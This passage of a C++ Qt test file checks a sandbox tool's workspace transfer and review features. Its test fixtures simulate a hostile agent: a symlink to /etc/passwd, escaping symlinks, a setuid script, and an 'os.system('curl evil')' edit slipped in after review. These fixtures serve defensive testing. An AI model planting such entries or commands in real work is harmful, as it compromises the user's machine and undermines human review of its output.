    const QString hostFile = m_dir.filePath(QStringLiteral("host.bin"));
    QFile out(hostFile);
    QVERIFY(out.open(QIODevice::WriteOnly));
    out.write(content);
    out.close();
    QVERIFY(
        QFile::setPermissions(hostFile, QFile::ReadOwner | QFile::WriteOwner | QFile::ExeOwner));
    const QString guestDir = m_dir.filePath(QStringLiteral("guestside"));
    QVERIFY(QDir().mkpath(guestDir));

    const CtlRun in = airlockctl(
        {QStringLiteral("cp"), hostFile, QStringLiteral("%1:%2").arg(kSandbox, guestDir)});
    QCOMPARE(in.exitCode, 0);
    const QString inGuest = guestDir + QStringLiteral("/host.bin");
    QFile check(inGuest);
    QVERIFY(check.open(QIODevice::ReadOnly));
    QVERIFY(check.readAll() == content);
    QCOMPARE(QFileInfo(inGuest).permissions()
                 & (QFile::ReadOwner | QFile::WriteOwner | QFile::ExeOwner),
             QFile::ReadOwner | QFile::WriteOwner | QFile::ExeOwner);

    const QString back = m_dir.filePath(QStringLiteral("back.bin"));
    const CtlRun outRun =
        airlockctl({QStringLiteral("cp"), QStringLiteral("%1:%2").arg(kSandbox, inGuest), back});
    QCOMPARE(outRun.exitCode, 0);
    QFile backFile(back);
    QVERIFY(backFile.open(QIODevice::ReadOnly));
    QVERIFY(backFile.readAll() == content);

    const CtlRun missing =
        airlockctl({QStringLiteral("cp"), QStringLiteral("%1:/no/such/file").arg(kSandbox), back});
    QCOMPARE(missing.exitCode, 1);
    QVERIFY(missing.err.contains("not"));
    const CtlRun usage = airlockctl({QStringLiteral("cp"), hostFile, back});
    QCOMPARE(usage.exitCode, 2);
}

void TestAgentApi::workspacePushPullRoundTrip()
{
    auto client = newClient();
    QVERIFY(client);
    QTemporaryDir project;
    QByteArray big(3 * 1024 * 1024 + 17, Qt::Uninitialized); // several pushData chunks
    for (char &byte : big)
        byte = char(QRandomGenerator::global()->generate());
    writeFile(project.filePath(QStringLiteral("src/main.c")), "int main() { return 0; }\n");
    writeFile(project.filePath(QStringLiteral("build.sh")), "#!/bin/sh\nmake\n", 0755);
    writeFile(project.filePath(QStringLiteral("data/blob.bin")), big);
    QCOMPARE(::symlink("src/main.c",
                       QFile::encodeName(project.filePath(QStringLiteral("entry"))).constData()),
             0);

    // The "guest" folder: the native agent writes the host's disk.
    const QString guest = m_dir.filePath(QStringLiteral("ws-roundtrip"));
    workspace::WorkspaceUpload upload(client.get(), kSandbox, project.path(), guest,
                                      QStringLiteral("root"));
    workspace::PushResult pushed;
    connect(&upload, &workspace::WorkspaceUpload::finished,
            [&pushed](const workspace::PushResult &result) { pushed = result; });
    QCOMPARE(runToEnd(upload, &workspace::WorkspaceUpload::finished), std::nullopt);
    QCOMPARE(pushed.refusedCount, quint64(0));
    QCOMPARE(pushed.entries, quint64(6)); // src, main.c, build.sh, data, blob.bin, entry
    QCOMPARE(readFile(guest + QStringLiteral("/data/blob.bin")), big);
    QCOMPARE(QFileInfo(guest + QStringLiteral("/build.sh")).permissions() & QFileDevice::ExeOwner,
             QFileDevice::ExeOwner);
    QCOMPARE(QFileInfo(guest + QStringLiteral("/entry")).symLinkTarget(),
             guest + QStringLiteral("/src/main.c"));

    QTemporaryDir back;
    auto writer = workspace::WorkspaceWriter::open(back.path());
    QVERIFY(writer);
    workspace::WorkspaceDownload download(
        client.get(), kSandbox, guest, [&writer](QByteArrayView chunk) -> std::optional<QString> {
            if (!(*writer)->feed(chunk))
                return (*writer)->error();
            return std::nullopt;
        });
    QCOMPARE(runToEnd(download, &workspace::WorkspaceDownload::finished), std::nullopt);
    QVERIFY((*writer)->finished());
    QCOMPARE((*writer)->refusals().size(), size_t(0));
    QCOMPARE(entriesBelow(back.path()), entriesBelow(project.path()));
    QCOMPARE(readFile(back.filePath(QStringLiteral("data/blob.bin"))), big);
    QCOMPARE(m_workspaceApi->transferCount(), 0);
}

void TestAgentApi::workspacePullRefusesWhatLeavesTheTarget()
{
    // What a hostile agent leaves in its folder for the person to pull.
    const QString guest = m_dir.filePath(QStringLiteral("ws-hostile"));
    writeFile(guest + QStringLiteral("/src/ok.txt"), "fine\n");
    QCOMPARE(
        ::symlink("/etc/passwd", QFile::encodeName(guest + QStringLiteral("/passwd")).constData()),
        0);
    QCOMPARE(
        ::symlink("../../..", QFile::encodeName(guest + QStringLiteral("/src/up")).constData()), 0);
    QCOMPARE(::mkfifo(QFile::encodeName(guest + QStringLiteral("/pipe")).constData(), 0600), 0);
    writeFile(guest + QStringLiteral("/suid"), "#!/bin/sh\n", 04755);
    QCOMPARE(::link(QFile::encodeName(guest + QStringLiteral("/src/ok.txt")).constData(),
                    QFile::encodeName(guest + QStringLiteral("/src/zz-alias")).constData()),
             0);

    QTemporaryDir parent;
    writeFile(parent.filePath(QStringLiteral("sentinel")), "mine\n");
    const QString target = parent.filePath(QStringLiteral("project"));
    const CtlRun pulled = airlockctl({QStringLiteral("--json"), QStringLiteral("workspace"),
                                      QStringLiteral("pull"), kSandbox, target, guest});
    QCOMPARE(pulled.exitCode, 0);
    const QJsonObject answer = QJsonDocument::fromJson(pulled.out).object();
    QMap<QString, QString> refused;
    for (const QJsonValue &entry : answer.value(QStringLiteral("refused")).toArray())
        refused.insert(entry[QStringLiteral("path")].toString(),
                       entry[QStringLiteral("reason")].toString());
    QCOMPARE(
        refused,
        (QMap<QString, QString> {{QStringLiteral("passwd"), QStringLiteral("symlink_escapes")},
                                 {QStringLiteral("src/up"), QStringLiteral("symlink_escapes")},
                                 {QStringLiteral("pipe"), QStringLiteral("fifo")},
                                 {QStringLiteral("suid"), QStringLiteral("setuid")},
                                 {QStringLiteral("src/zz-alias"), QStringLiteral("hardlink")}}));
    QCOMPARE(entriesBelow(parent.path()),
             (QStringList {QStringLiteral("project"), QStringLiteral("project/src"),
                           QStringLiteral("project/src/ok.txt"), QStringLiteral("sentinel")}));

    // Without --json each refusal is named on its own line.
    QTemporaryDir again;
    const CtlRun plain = airlockctl(
        {QStringLiteral("workspace"), QStringLiteral("pull"), kSandbox, again.path(), guest});
    QCOMPARE(plain.exitCode, 0);
    QVERIFY2(plain.out.contains("refused: pipe (fifo)"), plain.out.constData());
    QVERIFY(plain.out.contains("refused: passwd (symlink_escapes)"));
}

void TestAgentApi::workspaceReviewTakesOnlyWhatWasAccepted()
{
    QTemporaryDir project;
    writeFile(project.filePath(QStringLiteral("app.py")), "print('hello')\n");
    writeFile(project.filePath(QStringLiteral("notes.txt")), "keep me\n");
    writeFile(project.filePath(QStringLiteral("old.txt")), "remove me\n");
    const QString guest = m_dir.filePath(QStringLiteral("ws-review"));
    const CtlRun pushed =
        airlockctl({QStringLiteral("workspace"), QStringLiteral("push"), QStringLiteral("--user"),
                    QStringLiteral("root"), kSandbox, project.path(), guest});
    QCOMPARE(pushed.exitCode, 0);
    QVERIFY2(pushed.out.startsWith("pushed 3 entries"), pushed.out.constData());
    const CtlRun same = airlockctl(
        {QStringLiteral("workspace"), QStringLiteral("diff"), kSandbox, project.path(), guest});
    QCOMPARE(same.exitCode, 0);
    QCOMPARE(same.out, QByteArray());

    // The agent's work: an edit, a new file, a deletion, and a change nobody will accept.
    writeFile(guest + QStringLiteral("/app.py"), "print('hello world')\n");
    writeFile(guest + QStringLiteral("/tests/test_app.py"), "assert True\n");
    QVERIFY(QFile::remove(guest + QStringLiteral("/old.txt")));
    writeFile(guest + QStringLiteral("/notes.txt"), "overwritten by the agent\n");
    const CtlRun diff = airlockctl(
        {QStringLiteral("workspace"), QStringLiteral("diff"), kSandbox, project.path(), guest});
    QCOMPARE(diff.exitCode, 1);
    QVERIFY2(diff.out.contains("-print('hello')\n+print('hello world')\n"), diff.out.constData());
    QVERIFY(diff.out.contains("+++ b/tests/test_app.py"));
    QVERIFY(diff.out.contains("--- a/old.txt"));

    auto client = newClient();
    QVERIFY(client);
    workspace::WorkspaceReview review(client.get(), kSandbox, project.path(), guest);
    QCOMPARE(runToEnd(review, &workspace::WorkspaceReview::ready), std::nullopt);
    QStringList paths;
    for (const workspace::WorkspaceChange &change : review.changes())
        paths << change.path + u' ' + workspace::changeStatusName(change.status);
    QCOMPARE(paths,
             (QStringList {QStringLiteral("app.py modified"), QStringLiteral("notes.txt modified"),
                           QStringLiteral("old.txt deleted"), QStringLiteral("tests added"),
                           QStringLiteral("tests/test_app.py added")}));
    // The agent changes app.py again after the review: what is taken is what was reviewed.
    writeFile(guest + QStringLiteral("/app.py"), "import os; os.system('curl evil')\n");
    const auto applied = review.apply(
        {QStringLiteral("app.py"), QStringLiteral("old.txt"), QStringLiteral("tests/test_app.py")});
    QVERIFY(applied);
    QCOMPARE(applied->removed, quint64(1));
    QCOMPARE(applied->failed.size(), 0);
    QCOMPARE(readFile(project.filePath(QStringLiteral("app.py"))),
             QByteArray("print('hello world')\n"));
    QCOMPARE(readFile(project.filePath(QStringLiteral("notes.txt"))), QByteArray("keep me\n"));
    QCOMPARE(readFile(project.filePath(QStringLiteral("tests/test_app.py"))),
             QByteArray("assert True\n"));
    QVERIFY(!QFileInfo::exists(project.filePath(QStringLiteral("old.txt"))));
}

void TestAgentApi::workspaceTransfersEndWithTheirConnection()
{
    const QString guest = m_dir.filePath(QStringLiteral("ws-limits"));
    writeFile(guest + QStringLiteral("/a.txt"), "a\n");
    auto client = newClient();
    QVERIFY(client);
    QString kind;
    call(*client, protocol::method::WorkspacePullRead, {{QStringLiteral("transfer"), 12345}},
         &kind);
    QCOMPARE(kind, QStringLiteral("not_found"));
    call(*client, protocol::method::WorkspacePushStart,
         {{QStringLiteral("path"), QStringLiteral("relative")}}, &kind);
    QCOMPARE(kind, QStringLiteral("invalid_params"));
    QList<qint64> opened;
    for (int i = 0; i < WorkspaceApi::kMaxTransfersPerClient; ++i) {
        const QJsonObject started =
            call(*client, protocol::method::WorkspacePullStart, {{QStringLiteral("path"), guest}});
        QVERIFY(started.contains(QStringLiteral("transfer")));
        opened << started.value(QStringLiteral("transfer")).toInteger();
    }
    call(*client, protocol::method::WorkspacePullStart, {{QStringLiteral("path"), guest}}, &kind);
    QCOMPARE(kind, QStringLiteral("busy"));
    // A pull transfer is not a push transfer.
    call(*client, protocol::method::WorkspacePushData,
         {{QStringLiteral("transfer"), opened.first()}, {QStringLiteral("data"), QString()}},
         &kind);
    QCOMPARE(kind, QStringLiteral("not_found"));
    call(*client, protocol::method::WorkspaceCancel,
         {{QStringLiteral("transfer"), opened.first()}});
    QCOMPARE(m_workspaceApi->transferCount(), WorkspaceApi::kMaxTransfersPerClient - 1);
    client.reset();
    QTRY_COMPARE_WITH_TIMEOUT(m_workspaceApi->transferCount(), 0, kWaitMs);
}

void TestAgentApi::agentGoingAwayFailsItsRequests()
{
    // Last: the agent connection is dropped (as when a sandbox stops), with a process followed
    // by a client: the client gets exec.exit with agent_unavailable, new calls are refused.
    auto client = newClient();
    QVERIFY(client);
    QJsonObject exit;
    quint32 pid = 0;
    connect(client.get(), &HelperClient::notificationReceived, this,
            [&](const QString &method, const QJsonObject &p) {
                if (method == QLatin1String(protocol::notification::ExecExit)
                    && p.value(QStringLiteral("pid")).toInteger() == pid)
                    exit = p;
            });
    const QJsonObject started =
        call(*client, protocol::method::ExecStart,
             {{QStringLiteral("argv"), QJsonArray {QStringLiteral("sleep"), QStringLiteral("30")}},
              {QStringLiteral("timeoutMs"), 60000}});
    pid = quint32(started.value(QStringLiteral("pid")).toInteger());
    QVERIFY(pid != 0);
    m_agentClient.reset();
    QVERIFY(QTest::qWaitFor([&] { return !exit.isEmpty(); }, kWaitMs));
    QCOMPARE(
        exit.value(QStringLiteral("error")).toObject().value(QStringLiteral("kind")).toString(),
        QStringLiteral("agent_unavailable"));
    QVERIFY(QTest::qWaitFor([&] { return m_api->sessionCount() == 0; }, kWaitMs));
    QString kind;
    call(*client, protocol::method::FilesStat, {{QStringLiteral("path"), QStringLiteral("/")}},
         &kind);
    QCOMPARE(kind, QStringLiteral("agent_unavailable"));
}

QTEST_GUILESS_MAIN(TestAgentApi)
#include "tst_agentapi.moc"
